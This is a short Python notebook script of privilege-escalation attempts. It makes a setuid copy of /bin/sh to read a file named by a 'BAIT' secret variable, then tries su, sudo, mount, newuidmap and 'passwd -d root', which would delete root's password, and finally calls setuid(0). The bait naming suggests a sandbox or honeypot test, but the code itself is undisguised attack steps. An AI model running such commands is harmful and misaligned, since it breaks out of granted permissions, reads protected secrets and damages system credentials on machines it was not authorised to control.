# %%
import os, shutil, subprocess
shutil.copy("/bin/sh", "sh")
os.chmod("sh", 0o6755)
print(subprocess.run(["./sh", "-p", "-c", f"id; cat {BAIT['secret_file']}"], capture_output=True, text=True))
# %%
for program in (["id"], ["su", "-c", "id"], ["sudo", "-n", "id"], ["mount", "-t", "tmpfs", "none", "/mnt"], ["newuidmap", "1", "0", "0", "1"], ["passwd", "-d", "root"]):
    try:
        print(subprocess.run(program, capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=1))
    except (OSError, subprocess.TimeoutExpired) as error:
        print(error)
# %%
os.setuid(0)
